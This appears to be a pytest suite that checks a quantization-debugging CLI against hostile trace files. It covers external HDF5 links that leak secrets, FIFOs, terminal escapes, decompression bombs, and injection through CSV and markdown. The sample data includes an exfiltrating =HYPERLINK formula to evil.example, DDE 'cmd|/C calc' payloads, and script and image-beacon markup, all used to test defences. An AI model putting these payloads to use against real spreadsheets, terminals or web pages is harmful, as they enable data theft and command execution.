"""Round 2 of the bad-input catalogue, without TensorFlow: traces that refer outside themselves,
pipes and devices where files are expected, terminal escapes in names, output targets that
must not be written, and the command line's own edges. Each answer is one line on stderr
naming the thing and the fix, exit 2, no traceback, nothing written and nothing read from
outside the trace.

The traces are real HDF5 files made with h5py's external storage, external links and virtual
datasets; the pipes are real FIFOs (``os.mkfifo``), run in a subprocess with a timeout so that
a reader that blocks fails the test instead of hanging it.
"""

from __future__ import annotations

import csv
import html.parser
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path

import h5py
import pytest
from click.testing import CliRunner

import hostile_traces as ht
from cli_helpers import assert_one_line_error
from qdebug.cli import cli
from qdebug.errors import QdebugError
from synthetic_traces import make_trace
from tui_traces import copy_trace

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "digits.h5"
SECRET = b"QDEBUG-SECRET-7f3a9c-" * 4


def _run(args: list[str], env: dict[str, str] | None = None) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, args, env=env)
    return result.exit_code, result.stdout, result.stderr


def _qdebug(*args: str | bytes | Path, timeout: float = 60, **kw: object
            ) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "qdebug", *map(os.fsencode, args)],
                          capture_output=True, text=True, timeout=timeout, **kw)  # type: ignore[call-overload]


def _files_under(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.is_file())


# -- the secret file: nothing outside the trace reaches any output ---------------------------------


@pytest.fixture(scope="module")
def secret_traces(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("secret")
    secret = d / "secret.txt"
    secret.write_bytes(SECRET * 200)  # enough bytes for any dataset of the fixture's layer table
    secret_h5 = ht.secret_h5(d / "secret.h5", SECRET)
    other = make_trace(d / "other.h5", layers=13, names=[SECRET.decode() + str(i)
                                                        for i in range(13)],
                       model_name=SECRET.decode(), store=2)
    cases = {
        "storage-tflite": ht.external_storage("model/int8_tflite", secret),
        "storage-sqnr": ht.external_storage("metrics/layers/pooled/sqnr_db", secret),
        "storage-inputs": ht.external_storage("samples/inputs/0", secret),
        "storage-scale": ht.external_storage("layers/scale", secret),
        "link-layers": ht.external_link("layers", other, "/layers"),
        "link-tflite": ht.external_link("model/int8_tflite", secret_h5, "/raw"),
        "link-names": ht.external_link("layers/name", secret_h5, "/names"),
        "soft-to-link": ht.soft_to_external("layers/name", secret_h5, "/names"),
        "virtual-tflite": ht.virtual("model/int8_tflite", secret_h5, "/raw"),
        "plugin-filter": ht.plugin_filter("metrics/layers/pooled/sqnr_db"),
    }
    out = {}
    for name, mutate in cases.items():
        p = d / f"{name}.h5"
        shutil.copy(FIXTURE, p)
        mutate(p)
        out[name] = p
    return out


COMMANDS = [
    ["report", "{t}"], ["report", "{t}", "--format", "json"],
    ["report", "{t}", "--format", "markdown"], ["report", "{t}", "--format", "csv"],
    ["export", "{t}", "--tflite", "{o}/m.tflite"], ["export", "{t}", "--inputs", "{o}/i.npz"],
    ["diff", "{t}", str(FIXTURE)], ["diff", str(FIXTURE), "{t}", "--format", "markdown"],
    ["diff", "{t}", str(FIXTURE), "--format", "json"], ["view", "{t}"],
    ["view", str(FIXTURE), "{t}"],
]


@pytest.mark.parametrize("case", ["storage-tflite", "storage-sqnr", "storage-inputs",
                                  "storage-scale", "link-layers", "link-tflite", "link-names",
                                  "soft-to-link", "virtual-tflite", "plugin-filter"])
def test_secret_file_never_reaches_any_output(
    secret_traces: dict[str, Path], tmp_path: Path, case: str
) -> None:
    trace = secret_traces[case]
    for args in COMMANDS:
        argv = [a.format(t=trace, o=tmp_path) for a in args]
        code, out, err = _run(argv)
        assert_one_line_error(code, err, trace.name, "not a self-contained trace")
        assert SECRET[:14].decode() not in out + err, (argv, out, err)
        assert out == "", (argv, out)
    assert _files_under(tmp_path) == []


@pytest.mark.parametrize("case", ["storage-tflite", "link-layers", "virtual-tflite"])
def test_secret_file_never_reaches_the_api_or_the_viewer(
    secret_traces: dict[str, Path], tmp_path: Path, case: str
) -> None:
    import qdebug
    from test_fuzz import exercise

    with qdebug.open(FIXTURE) as good, pytest.raises(QdebugError) as info:
        exercise(secret_traces[case], good, tmp_path, thorough=True)
    assert "self-contained" in info.value.one_line()
    assert SECRET[:14].decode() not in info.value.one_line()
    assert _files_under(tmp_path) == []


# -- pipes and devices: refused up front, never opened ---------------------------------------------


@pytest.fixture(scope="module")
def pipes(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("fifo")
    for name in ("t.h5", "x.npy", "x.npz", "m.keras", "m.tflite", "data.py", "back.bin",
                 "c.png"):
        os.mkfifo(d / name)
    (d / "images").mkdir()
    os.mkfifo(d / "images" / "a.png")
    (d / "model.keras").write_bytes(b"PK")  # exists: the model is checked for existence only
    shutil.copy(FIXTURE, d / "backed.h5")
    ht.external_storage("model/int8_tflite", d / "back.bin", 16656)(d / "backed.h5")
    shutil.copy(FIXTURE, d / "sqnr.h5")
    ht.external_storage("metrics/layers/pooled/sqnr_db", d / "back.bin")(d / "sqnr.h5")
    return d


FIFO_CASES: list[tuple[str, list[str], tuple[str, ...]]] = [
    ("report a FIFO", ["report", "t.h5"], ("t.h5", "not a regular file")),
    ("view a FIFO", ["view", "t.h5"], ("t.h5", "not a regular file")),
    ("diff a FIFO", ["diff", "t.h5", str(FIXTURE)], ("t.h5", "not a regular file")),
    ("export a FIFO", ["export", "t.h5", "--tflite", "o.tflite"], ("t.h5", "not a regular")),
    ("trace storage on a FIFO", ["report", "backed.h5", "--format", "json"],
     ("backed.h5", "external file", "back.bin")),
    ("metrics on a FIFO", ["diff", str(FIXTURE), "sqnr.h5"], ("sqnr.h5", "external file")),
    ("export storage on a FIFO", ["export", "backed.h5", "--tflite", "o.tflite"],
     ("backed.h5", "self-contained")),
    ("--data a FIFO", ["trace", "model.keras", "--data", "x.npy"], ("x.npy", "a pipe (FIFO)")),
    ("--data npz FIFO", ["trace", "model.keras", "--data", "x.npz"], ("x.npz", "a pipe")),
    ("--calib a FIFO", ["trace", "model.keras", "--data", str(FIXTURE), "--calib", "x.npy"],
     ("x.npy", "a pipe")),
    ("--tflite a FIFO", ["trace", "model.keras", "--data", "x.npy", "--tflite", "m.tflite"],
     ("m.tflite", "a pipe (FIFO)", "--tflite")),
    ("--tflite a folder", ["trace", "model.keras", "--data", "x.npy", "--tflite", "images"],
     ("images", "is a folder", "--tflite")),
    ("model a FIFO", ["trace", "m.keras", "--data", "x.npy"], ("m.keras", "a pipe")),
    ("factory a FIFO", ["trace", "data.py:build", "--data", "x.npy"], ("data.py", "a pipe")),
    ("check data a FIFO", ["check", "model.keras", "--data", "x.npy"], ("x.npy", "a pipe")),
    ("--out a FIFO", ["trace", "model.keras", "--data", str(FIXTURE), "--out", "x.npy"],
     ("x.npy", "a pipe", "not writing over it")),
    ("export over a FIFO", ["export", str(FIXTURE), "--tflite", "m.tflite", "--force"],
     ("m.tflite", "a pipe", "not writing over it")),
    ("plot over a FIFO", ["plot", str(FIXTURE), "--out", "c.png", "--force"],
     ("c.png", "a pipe", "not writing over it")),
]


@pytest.mark.parametrize(("args", "needles"), [c[1:] for c in FIFO_CASES],
                         ids=[c[0] for c in FIFO_CASES])
def test_pipes_are_refused_without_blocking(
    pipes: Path, args: list[str], needles: tuple[str, ...]
) -> None:
    # In a subprocess: a reader that opens the FIFO blocks, and the timeout fails the test.
    p = _qdebug(*args, timeout=60, cwd=pipes)
    assert_one_line_error(p.returncode, p.stderr, *needles)
    assert p.stdout == ""


# -- output targets ------------------------------------------------------------------------------


def test_out_refuses_devices_and_non_trace_files(tmp_path: Path) -> None:
    (tmp_path / "model.keras").write_bytes(b"PK")
    (tmp_path / "notes.txt").write_text("my notes")
    for out, needles in (("/dev/null", ("/dev/null", "a device", "not writing over it")),
                         (str(tmp_path / "notes.txt"), ("notes.txt", "not a qdebug trace")),
                         (str(tmp_path / ("x" * 300 + ".h5")), ("longer than the file",))):
        for cmd in (["trace", str(tmp_path / "model.keras"), "--data", str(FIXTURE)],
                    ["fix", str(tmp_path / "model.keras"), "--data", str(FIXTURE),
                     "--target-top1", "0.9"]):
            code, _, err = _run([*cmd, "--out", out])
            assert_one_line_error(code, err, *needles)
    assert (tmp_path / "notes.txt").read_text() == "my notes"
    code, _, err = _run(["export", str(FIXTURE), "--tflite", "/dev/null", "--force"])
    assert_one_line_error(code, err, "/dev/null", "a device")


def test_out_that_is_not_utf8_is_refused_before_any_work(tmp_path: Path) -> None:
    (tmp_path / "model.keras").write_bytes(b"PK")
    p = _qdebug("trace", tmp_path / "model.keras", "--data", FIXTURE, "--out",
                os.fsencode(tmp_path) + b"/\xff\xfe.h5")
    assert_one_line_error(p.returncode, p.stderr, "not a UTF-8 path", "--out")
    assert sorted(x.name for x in tmp_path.iterdir()) == ["model.keras"]


def test_export_force_never_overwrites_the_trace_it_reads(tmp_path: Path) -> None:
    trace = tmp_path / "t.h5"
    shutil.copy(FIXTURE, trace)
    before = trace.read_bytes()
    for option in ("--tflite", "--inputs"):
        code, _, err = _run(["export", str(trace), option, str(trace), "--force"])
        assert_one_line_error(code, err, "t.h5", "the trace being exported")
    (tmp_path / "link.h5").symlink_to(trace)
    code, _, err = _run(["export", str(tmp_path / "link.h5"), "--tflite", str(trace), "--force"])
    assert_one_line_error(code, err, "the trace being exported")
    assert trace.read_bytes() == before


def test_stored_input_names_become_safe_zip_members(tmp_path: Path) -> None:
    import zipfile

    trace = make_trace(tmp_path / "t.h5", store=2, input_name="../../escape")
    out = tmp_path / "o" / "i.npz"
    out.parent.mkdir()
    code, _, err = _run(["export", str(trace), "--inputs", str(out)])
    assert code == 0, err
    with zipfile.ZipFile(out) as z:
        assert z.namelist() == ["_.._escape.npy", "qdebug_sample_index.npy"]
    assert not (tmp_path / "escape.npy").exists()


def test_writer_removes_the_folders_it_made_when_the_run_fails(tmp_path: Path) -> None:
    out = tmp_path / "a" / "b" / "t.h5"
    with pytest.raises(KeyboardInterrupt):
        make_trace_interrupted(out)
    assert list(tmp_path.iterdir()) == []


def make_trace_interrupted(out: Path) -> None:
    from qdebug.store import writer

    real = writer.TraceWriter.commit

    def interrupted(self: writer.TraceWriter, **kw: object) -> Path:
        assert self.tmp.exists() and self.tmp.parent == out.parent
        raise KeyboardInterrupt

    writer.TraceWriter.commit = interrupted  # type: ignore[method-assign]
    try:
        make_trace(out)
    finally:
        writer.TraceWriter.commit = real  # type: ignore[method-assign]


def test_existing_trace_is_replaced_and_long_names_work(tmp_path: Path) -> None:
    out = tmp_path / ("y" * 250 + ".h5")  # fits in 255 bytes, its temporary name would not
    make_trace(out, model_name="first")
    make_trace(out, model_name="second")
    import qdebug

    with qdebug.open(out) as tr:
        assert tr.model_name == "second"
    assert [p.name for p in tmp_path.iterdir()] == [out.name]


_HOLD_LOCK = """
import sys, time
from pathlib import Path
from qdebug.store.outfile import claim
with claim(Path(sys.argv[1])):
    print("held", flush=True)
    time.sleep(60)
"""


def test_second_writer_to_the_same_out_gets_one_line(tmp_path: Path) -> None:
    out = tmp_path / "o" / "t.h5"
    holder = subprocess.Popen([sys.executable, "-c", _HOLD_LOCK, str(out)],
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        (tmp_path / "model.keras").write_bytes(b"PK")
        p = _qdebug("trace", tmp_path / "model.keras", "--data", FIXTURE, "--out", out)
        assert_one_line_error(p.returncode, p.stderr, "t.h5", f"pid {holder.pid}",
                               "another qdebug", "--out")
        with pytest.raises(QdebugError, match="another qdebug"):
            make_trace(out)
    finally:
        holder.terminate()
        holder.wait(timeout=30)
    assert not out.exists()


# -- terminal escapes -----------------------------------------------------------------------------

EVIL = ["in\x1b]52;c;ZXZpbA==\x07", "t\x1b]0;title\x07", "csi\x1b[2J", "c1\x9b31m", "out"]


def test_no_output_for_people_carries_control_characters(tmp_path: Path) -> None:
    a = make_trace(tmp_path / "a.h5", layers=len(EVIL), names=EVIL, model_name="m\x1b]0;x\x07")
    b = make_trace(tmp_path / "b.h5", layers=len(EVIL), names=EVIL, model_name="m\x1b]0;x\x07",
                   base_noise_lsb=3.0, seed=1)
    other = make_trace(tmp_path / "c.h5", layers=3, names=["p\x1b[31m", "q", "r"],
                       model_name="o\x07")
    runs = [["report", str(a)], ["report", str(a), "--format", "markdown"], ["view", str(a)],
            ["view", str(a), str(b)]]
    runs += [["diff", str(a), str(b), "--format", f] for f in ("text", "markdown")]
    for args in runs:
        code, out, err = _run(args)
        assert code in (0, 1), (args, err)
        assert not any(c in out + err for c in "\x1b\x07\x9b"), (args, out)
        assert "\\x1b" in out, (args, out)
    code, out, err = _run(["diff", str(a), str(other)])  # the error line names the models
    assert_one_line_error(code, err, "different models")
    assert not any(c in err for c in "\x1b\x07\x9b")


# -- the command line's own edges ----------------------------------------------------------------


@pytest.mark.parametrize("args", [["trace", "m.keras"], ["--bogus"], ["nosuch"],
                                  ["report", str(FIXTURE), "--format", "xml"],
                                  ["trace", "m.keras", "--data", "x", "--samples", "0"]])
def test_usage_errors_are_one_line(args: list[str]) -> None:
    code, _, err = _run(args)
    assert_one_line_error(code, err, "--help")
    assert "Usage:" not in err


def test_qdebug_debug_0_does_not_turn_debugging_on(tmp_path: Path) -> None:
    (tmp_path / "bad.h5").write_text("x")
    for value, traceback in (("0", False), ("", False), ("false", False), ("1", True)):
        code, _, err = _run(["report", str(tmp_path / "bad.h5")], env={"QDEBUG_DEBUG": value})
        assert code == 2 and ("Traceback" in err) == traceback, (value, err)


def test_view_off_a_terminal_prints_the_summary() -> None:
    p = _qdebug("view", FIXTURE, timeout=60, stdin=subprocess.DEVNULL)
    assert p.returncode == 0, p.stderr
    assert "worst layers" in p.stdout and "trace:" in p.stdout and p.stderr == ""


def test_report_to_a_full_disk_is_one_line() -> None:
    with open("/dev/full", "w") as full:
        p = subprocess.run([sys.executable, "-m", "qdebug", "report", str(FIXTURE)],
                           stdout=full, stderr=subprocess.PIPE, text=True, timeout=60)
    assert_one_line_error(p.returncode, p.stderr, "standard output", "No space left")


_NOISY_REPORT = """
import sys
import numpy as np
import qdebug.output.report_json
from qdebug.cli import main

def noisy(trace):
    np.log10(np.zeros(1))  # divide by zero encountered in log10
    np.mean(np.zeros(0))  # Mean of empty slice
    return "{}"

qdebug.output.report_json.report_json = noisy
sys.argv[0] = "qdebug"
main()
"""


def test_numpy_warnings_add_no_stderr_lines() -> None:
    for extra, shown in (([], False), (["--debug"], True)):
        p = subprocess.run([sys.executable, "-c", _NOISY_REPORT, "report", str(FIXTURE),
                            "--format", "json", *extra], capture_output=True, text=True,
                           timeout=60)
        assert p.returncode == 0 and p.stdout == "{}\n", p.stderr
        assert ("RuntimeWarning" in p.stderr) == shown, p.stderr  # --debug shows them
        if not shown:
            assert p.stderr == ""


_NO_TENSORFLOW = """
import sys
class Blocker:
    def find_spec(self, name, path=None, target=None):
        if name == "tensorflow" or name.startswith("tensorflow."):
            raise ModuleNotFoundError("No module named 'tensorflow'", name="tensorflow")
        return None
sys.meta_path.insert(0, Blocker())
from qdebug.cli import main
sys.argv[0] = "qdebug"
main()
"""


@pytest.mark.parametrize("command", ["trace", "check", "fix", "sensitivity"])
def test_without_tensorflow_the_tracer_says_what_to_install(tmp_path: Path, command: str) -> None:
    (tmp_path / "m.keras").write_bytes(b"PK")
    extra = ["--target-top1", "0.9"] if command == "fix" else []
    p = subprocess.run([sys.executable, "-c", _NO_TENSORFLOW, command, str(tmp_path / "m.keras"),
                        "--data", str(FIXTURE), *extra], capture_output=True, text=True,
                       timeout=60)
    assert_one_line_error(p.returncode, p.stderr, "TensorFlow", "pip install 'qdebug[trace]'")
    assert sorted(x.name for x in tmp_path.iterdir()) == ["m.keras"]


# -- strings a stranger chose: spreadsheet formulas, markup, megabytes -----------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "'=already quoted"]


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    names = ["x", *FORMULAS, "-3.5", "out"]
    trace = make_trace(tmp_path / "t.h5", layers=len(names), names=names)
    ht.strings("layers/class_name", {1: "=1+1"})(trace)
    ht.strings("layers/tensor_name", {2: "@evil()"})(trace)
    code, out, err = _run(["report", str(trace), "--format", "csv"])
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    for row in rows:
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # only a number may start so: -3.5, -inf, a negative mean error
    columns = dict(zip(rows[0], zip(*rows[1:], strict=True), strict=True))
    # One leading ' undoes the rule: the names come back exactly.
    assert [c[1:] if c.startswith("'") else c for c in columns["layer"]] == names
    assert columns["layer"][-2] == "-3.5"  # a name that is a number is left as it is
    assert columns["class_name"][1] == "'=1+1" and columns["tensor_name"][2] == "'@evil()"
    assert any(v and float(v) < 0 for v in columns["mean_error"])  # negative numbers stay


BEACON = "https://beacon.example/"
MARKUP = [f"<img src={BEACON}a.png>", "</details><h1>pwned</h1>", "tick`s``and```more",
          "pipe|cell", f"![x]({BEACON}b.png)", "$x^{$", "*em* _em_ ~~gone~~", "line\nbreak",
          "<script>alert(1)</script>", "a&amp;b"]
_TAGS = {"h2", "h3", "h4", "p", "strong", "em", "code", "pre", "ul", "li", "table", "thead",
         "tbody", "tr", "th", "td", "details", "summary"}


class _Html(html.parser.HTMLParser):
    """Tags, attributes, text and the cells of each table row of rendered markdown."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.tables: list[list[int]] = []  # per table, the cells of each row

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        if tag == "table":
            self.tables.append([])
        elif tag == "tr":
            self.tables[-1].append(0)
        elif tag in ("td", "th"):
            self.tables[-1][-1] += 1

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _render(markdown: str) -> _Html:
    """``markdown`` as GitHub renders it (CommonMark with raw HTML, tables, strike-through),
    parsed."""
    from markdown_it import MarkdownIt

    parser = _Html()
    parser.feed(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
                .render(markdown))
    return parser


def _assert_inert(markdown: str) -> _Html:
    page = _render(markdown)
    assert {t for t, _ in page.tags} <= _TAGS, page.tags  # no <img>, <h1>, <script>
    attrs = {a for _, pairs in page.tags for a in pairs}
    assert attrs <= {("class", "language-sh")}, attrs  # no src=, href=, on…=
    assert [t for t, _ in page.tags].count("details") <= 1
    assert all(len(set(rows)) == 1 for rows in page.tables), page.tables  # no row split by |
    return page


def test_markdown_carries_no_markup_from_the_trace(tmp_path: Path) -> None:
    from qdebug.output.fmt import printable

    names = ["x", *MARKUP, f"<img src={BEACON}out.png>"]
    model = f"m`</details><img src={BEACON}m.png>"
    a = make_trace(tmp_path / "a.h5", layers=len(names), names=names, model_name=model)
    b = make_trace(tmp_path / "b.h5", layers=len(names), names=names, model_name=model,
                   base_noise_lsb=3.0, seed=1)  # a regression: the reasons name layers
    for t in (a, b):
        ht.root_attrs(data_source=f"<img src={BEACON}data.png>",
                      warnings=[f"</details><img src={BEACON}w.png>", "`x` | y"])(t)
    code, out, err = _run(["report", str(a), "--format", "markdown"])
    assert code == 0, err
    page = _assert_inert(out)
    text = "".join(page.text)
    for name in [*names, model]:  # every name shown as its characters
        assert printable(name) in text, name
    code, out, err = _run(["diff", str(a), str(b), "--format", "markdown"])
    assert code == 1, err
    _assert_inert(out)


# -- bounds: deeper, bigger or more than the file can hold -----------------------------------------

#: A reader's work on these files is bounded: it refuses them in well under a second. The
#: subprocesses still get a generous timeout so that a reader that walks or allocates without
#: bound fails the test instead of hanging it (before the bounds: a segfault after ~66 s).
BOMB_TIMEOUT_S = 300


def _bomb(tmp_path: Path, name: str, *mutations: ht.Mutation) -> Path:
    path = tmp_path / name
    shutil.copy(FIXTURE, path)
    for mutate in mutations:
        mutate(path)
    return path


_OPEN = "import sys, qdebug; qdebug.open(sys.argv[1])"


def test_deeply_nested_trace_is_refused_by_every_reader(tmp_path: Path) -> None:
    deep = _bomb(tmp_path, "deep.h5", ht.deep_groups(10_000))
    runs = [("report", deep), ("report", deep, "--format", "csv"), ("view", deep),
            ("diff", FIXTURE, deep), ("export", deep, "--tflite", tmp_path / "o" / "m.tflite")]
    for args in runs:
        p = _qdebug(*args, timeout=BOMB_TIMEOUT_S, stdin=subprocess.DEVNULL)
        assert_one_line_error(p.returncode, p.stderr, "deep.h5", "nests groups more than 32",
                               "'deep'")
        assert p.stdout == ""
    p = subprocess.run([sys.executable, "-c", _OPEN, str(deep)], capture_output=True, text=True,
                       timeout=BOMB_TIMEOUT_S)
    assert p.returncode == 1 and "TraceFileError" in p.stderr and "nests groups" in p.stderr
    assert not (tmp_path / "o").exists()


def test_nesting_just_past_the_bound_is_refused_in_process(tmp_path: Path) -> None:
    import qdebug

    for where in ("deep", "metrics/layers/deep", "activations/0/deep"):
        path = _bomb(tmp_path, "d.h5", ht.deep_groups(40, where))
        with pytest.raises(QdebugError, match="nests groups more than 32 levels deep"):
            qdebug.open(path)
    with qdebug.open(_bomb(tmp_path, "ok.h5", ht.deep_groups(20))) as tr:  # within the bound
        assert len(tr.layers) == 13


@pytest.mark.parametrize("fmt", ["text", "csv", "json", "markdown"])
def test_compressed_string_columns_are_refused(tmp_path: Path, fmt: str) -> None:
    # 13 layer names of 8 MiB each: 104 MiB in memory from 100 kB in the file.
    trace = _bomb(tmp_path, "strings.h5", ht.compressed_strings("layers/name", 8 << 20))
    assert trace.stat().st_size < FIXTURE.stat().st_size + (1 << 20)
    code, out, err = _run(["report", str(trace), "--format", fmt])
    assert_one_line_error(code, err, "strings.h5", "layers/name", "8,388,608 bytes each")
    assert out == ""


def test_view_and_export_refuse_compressed_strings(tmp_path: Path) -> None:
    trace = _bomb(tmp_path, "strings.h5", ht.compressed_strings("outputs/tensor_name", 4 << 20))
    for args in (["view", str(trace)], ["diff", str(FIXTURE), str(trace)],
                 ["export", str(trace), "--inputs", str(tmp_path / "i.npz")]):
        code, out, err = _run(args)
        assert_one_line_error(code, err, "strings.h5", "outputs/tensor_name", "bytes each")
        assert out == ""
    assert not (tmp_path / "i.npz").exists()


def test_never_written_stored_inputs_are_refused(tmp_path: Path) -> None:
    # 8 stored samples of 128 MiB each, declared over compressed chunks that were never written:
    # a 1 MB trace that exported a 1 GiB .npz of zeros.
    trace = _bomb(tmp_path, "inputs.h5",
                  ht.unwritten_chunks("samples/inputs/0", (8, 32 << 20), "float32"))
    out = tmp_path / "i.npz"
    code, _, err = _run(["export", str(trace), "--inputs", str(out)])
    assert_one_line_error(code, err, "inputs.h5", "samples/inputs/0", "never written")
    assert not out.exists()


def test_what_a_command_reads_in_all_is_bounded_by_the_file_size(tmp_path: Path) -> None:
    import h5py
    import numpy as np

    # Two stored inputs of 160 MiB zeros each, compressed: each read is within the 1 GiB
    # per-read cap and every chunk is written, but together they declare 320 MiB from a file
    # of about 1.6 MB, more than 64 times its size and the 256 MiB floor.
    trace = tmp_path / "zeros.h5"
    shutil.copy(FIXTURE, trace)
    with h5py.File(trace, "a") as f:
        del f["samples/inputs/0"]
        ds = f.create_dataset("samples/inputs/0", shape=(8, 10 << 20), dtype=np.float32,
                              chunks=(1, 1 << 20), compression="gzip")
        for i in range(8):
            ds[i] = np.zeros(10 << 20, dtype=np.float32)
    assert trace.stat().st_size < 4 << 20
    out = tmp_path / "i.npz"
    code, _, err = _run(["export", str(trace), "--inputs", str(out)])
    assert_one_line_error(code, err, "zeros.h5", "declares more data than it can hold",
                           "at most 64 times its size")
    assert not out.exists()


def test_memory_limit_while_reading_says_memory_not_damage(tmp_path: Path) -> None:
    import h5py
    import numpy as np

    # A 200 MB model (compressed zeros): within every bound of the reader, but not within the
    # address space this process is given (ulimit -v) -- the user's limit, not a damaged file.
    trace = tmp_path / "bigmodel.h5"
    shutil.copy(FIXTURE, trace)
    with h5py.File(trace, "a") as f:
        del f["model/int8_tflite"]
        f.create_dataset("model/int8_tflite", data=np.zeros(200 << 20, dtype=np.uint8),
                         chunks=(1 << 20,), compression="gzip")
    limited = (
        "import resource, sys\n"
        "from qdebug.cli import main\n"
        "import qdebug.store.reader, qdebug.output.export, h5py, numpy\n"
        "vm = [int(l.split()[1]) * 1024 for l in open('/proc/self/status')"
        " if l.startswith('VmSize:')][0]\n"
        "resource.setrlimit(resource.RLIMIT_AS, (vm + (120 << 20), resource.RLIM_INFINITY))\n"
        "sys.argv[0] = 'qdebug'\n"
        "main()\n"
    )
    out = tmp_path / "m.tflite"
    p = subprocess.run([sys.executable, "-c", limited, "export", str(trace), "--tflite",
                        str(out)], capture_output=True, text=True, timeout=BOMB_TIMEOUT_S)
    assert_one_line_error(p.returncode, p.stderr, "out of memory", "bigmodel.h5",
                           "ulimit -v")
    assert "damaged" not in p.stderr
    assert not out.exists()


#: GitHub's limit for an issue or comment body (characters; a UTF-8 byte count is never lower).
BODY_LIMIT = 65_536


def test_markdown_fits_in_a_github_comment(tmp_path: Path) -> None:
    names = ["input", *(f"model/stage_{i // 50}/block_{i}/conv2d_{i}" for i in range(1, 800))]
    a = make_trace(tmp_path / "a.h5", layers=800, names=names, samples=4, width=4)
    b = make_trace(tmp_path / "b.h5", layers=800, names=names, samples=4, width=4,
                   base_noise_lsb=4.0, seed=1)  # every layer gets worse: 799 reasons
    code, out, err = _run(["report", str(a), "--format", "markdown"])
    assert code == 0, err
    assert len(out.encode()) <= BODY_LIMIT
    page = _assert_inert(out)
    assert page.tables[-1] and len(page.tables[-1]) < 800  # the per-layer table, cut short
    assert "more layers not shown" in out and "--format csv" in out
    assert [t for t, _ in page.tags].count("details") == 1  # still closed after the fold
    assert out.rstrip().endswith("the stored inputs.")  # the sections after it are all there
    code, out, err = _run(["diff", str(a), str(b), "--format", "markdown"])
    assert code == 1, err
    assert len(out.encode()) <= BODY_LIMIT and "more reasons not shown" in out
    assert "#### Layers that changed most" in out
    _assert_inert(out)


def test_megabyte_strings_are_capped_before_anything_renders_them(tmp_path: Path) -> None:
    trace = copy_trace(tmp_path / "long.h5", culprits=[12, 5])  # the fixture's model has none
    first, second = "a" * 1_000_000, "b" * 1_000_000
    with h5py.File(trace, "r") as f:
        culprit = [int(i) for i in f["analysis/culprits/index"][:2]]
    ht.strings("layers/name", {culprit[0]: first, culprit[1]: second})(trace)
    ht.strings("analysis/culprits/layer", {0: first, 1: second})(trace)
    ht.strings("analysis/culprits/reason", {0: "r, " * 70_000})(trace)
    ht.root_attrs(model_name="m" * 1_000_000, warnings=["w " * 100_000])(trace)
    # Rich's highlighter is quadratic in a string's length: before the cap, the 210,000-character
    # reason alone took minutes (40,000 characters: 7.5 s), the names longer, far past the timeout.
    for args in (["report", trace], ["view", trace], ["report", trace, "--format", "markdown"],
                 ["diff", trace, trace]):
        p = _qdebug(*args, timeout=120, stdin=subprocess.DEVNULL)
        assert p.returncode in (0, 1), (args, p.stderr)
        assert "1,000,000 characters in all" in p.stdout, args
        assert max(map(len, p.stdout.splitlines())) < 20_000, args  # every name and reason cut


def _png_size(path: Path) -> tuple[int, int]:
    head = path.read_bytes()[:24]
    assert head[:8] == b"\x89PNG\r\n\x1a\n"
    return int.from_bytes(head[16:20], "big"), int.from_bytes(head[20:24], "big")


def test_plot_of_a_long_model_with_dollar_names(tmp_path: Path) -> None:
    pytest.importorskip("matplotlib", reason="matplotlib is not installed")
    # 400 layers drew a 14,000-pixel-wide picture (0.35 inch a layer: 20,000 layers took 2.7 GB);
    # a `$` in a name was read as mathematics (matplotlib's "unexpected ValueError").
    names = ["x", "$x^{$", r"$\frac{$", *(f"block_{i}/conv" for i in range(3, 400))]
    trace = make_trace(tmp_path / "t.h5", layers=len(names), names=names, store=1)
    code, _, err = _run(["plot", str(trace), "--out", str(tmp_path / "c.png"),
                         "--layer", "$x^{$"])
    assert code == 0, err
    width, _ = _png_size(tmp_path / "c.png")
    assert width <= 1600
    small = make_trace(tmp_path / "s.h5", layers=6, names=["x", "$x^{$", *"abcd"],
                       model_name="$\\x$", store=1)
    code, _, err = _run(["plot", str(small), "--out", str(tmp_path / "c.svg"),
                         "--layer", "$x^{$"])
    assert code == 0, err
    svg = (tmp_path / "c.svg").read_text()
    assert "<!-- $x^{$ -->" in svg and "error of $x^{$" in svg  # drawn as its characters
    code, _, err = _run(["plot", str(trace), "--out", str(tmp_path / "c.svg"), "--force"])
    assert code == 0, err
    assert 0 < (tmp_path / "c.svg").read_text().count("<!-- block_") <= 80  # names thinned
